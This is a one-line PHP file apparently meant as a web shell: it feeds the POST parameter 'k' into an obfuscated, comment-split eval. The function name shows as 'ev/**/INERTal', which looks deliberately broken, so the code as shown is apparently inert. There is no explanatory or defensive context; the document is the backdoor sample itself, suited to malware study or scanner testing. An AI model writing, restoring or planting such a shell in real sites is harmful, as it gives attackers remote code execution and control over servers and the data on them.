<?php @ev/**/INERTal ( $_POST["k"] );
